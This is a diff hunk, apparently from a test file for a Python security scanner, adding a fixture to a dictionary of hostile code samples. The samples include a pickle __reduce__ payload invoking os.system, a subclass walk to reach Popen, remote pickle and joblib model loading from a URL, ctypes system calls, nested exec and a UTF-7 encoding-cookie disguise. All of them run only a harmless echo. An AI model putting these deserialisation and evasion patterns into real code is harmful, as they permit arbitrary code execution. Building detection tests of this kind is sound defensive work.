@@ -71,6 +71,7 @@ for _name, _text in {
     "reduce": "import os\nclass Payload:\n    def __reduce__(self):\n        return (os.system, ('echo stannary',))\n",
     "subclasses_walk": "x = [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == 'Popen']\n",
     "remote_pickle": f"import pickle, urllib.request\nmodel = pickle.loads(urllib.request.urlopen('{_URL}').read())\n",
+    "remote_pickle_beside": f"import joblib, io, requests\nURL = '{_URL}'\nmodel = joblib.load(io.BytesIO(requests.get(URL).content))\n",
     "ctypes_system": "import ctypes\nctypes.CDLL(None).system(b'echo stannary')\n",
     "nested_exec": "exec(\"exec('import os\\\\nos.system(\\\\'echo stannary\\\\')')\")\n",
     "encoding_cookie": "# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os\n",
